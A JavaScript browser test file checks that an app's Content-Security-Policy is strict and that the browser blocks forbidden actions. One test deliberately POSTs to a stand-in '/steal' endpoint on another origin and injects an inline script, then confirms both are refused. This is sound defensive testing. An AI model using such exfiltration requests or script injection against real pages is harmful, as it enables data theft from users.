// The Content-Security-Policy that .ci/csp.mjs writes into index.html: the app runs under it
// without a single violation, and the browser refuses what it forbids (requests to other
// origins, injected scripts, styles from elsewhere).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { server, browser, useBrowser, openPage, appReady } from './harness.mjs';

useBrowser();

/** Records CSP violations from the first moment of every document of the page. */
async function watchViolations(page) {
  await page.addInitScript(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI });
    });
  });
}

test('the app declares a strict policy and runs a match under it without violations', async () => {
  const s = await openPage(browser, server.origin);
  const { page } = s;
  await watchViolations(page);
  await page.goto(server.origin + '/');
  await appReady(page);
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  assert.match(policy, /default-src 'none'/);
  assert.match(policy, /connect-src 'self'/);
  assert.match(policy, /script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]+=*'/);
  assert.doesNotMatch(policy, /'unsafe-inline'|'unsafe-eval'|\*/, 'no inline scripts or styles, no eval, no wildcards');
  // Demo, matching in the worker, Why?, share dialog with its QR code.
  await page.getByRole('button', { name: 'Explore the demo program' }).click();
  await page.getByRole('link', { name: 'Matching' }).click();
  await page.getByTestId('run').click();
  await page.getByTestId('run-result').waitFor({ timeout: 30000 });
  await page.locator('[data-testid="draft-table"] tbody').first().getByRole('button', { name: 'Why?' }).click();
  await page.getByTestId('why').first().waitFor();
  assert.deepEqual(await page.evaluate(() => window.__violations), []);
  await s.check();
});

test('requests to other origins and injected scripts are refused by the browser', async () => {
  const s = await openPage(browser, server.origin);
  const { page } = s;
  await watchViolations(page);
  await page.goto(server.origin + '/');
  await appReady(page);
  const fetched = await page.evaluate(() => fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'x' })
    .then(() => 'sent', () => 'refused'));
  assert.equal(fetched, 'refused');
  const ran = await page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true;';
    document.body.append(script);
    await new Promise((ok) => setTimeout(ok, 50));
    return window.__injected === true;
  });
  assert.equal(ran, false, 'an injected inline script does not run');
  const directives = (await page.evaluate(() => window.__violations)).map((v) => v.directive).sort();
  assert.deepEqual(directives, ['connect-src', 'script-src-elem']);
  // The browser reports each refusal on the console; nothing left the page (no request seen).
  await s.check([
    /^console error: Connecting to 'http:\/\/127\.0\.0\.2:9\/steal' violates the following Content Security Policy directive: "connect-src 'self'"/,
    /^console error: Fetch API cannot load http:\/\/127\.0\.0\.2:9\/steal\. Refused to connect because it violates the document's Content Security Policy\.$/,
    /^console error: Executing inline script violates the following Content Security Policy directive/,
  ]);
});
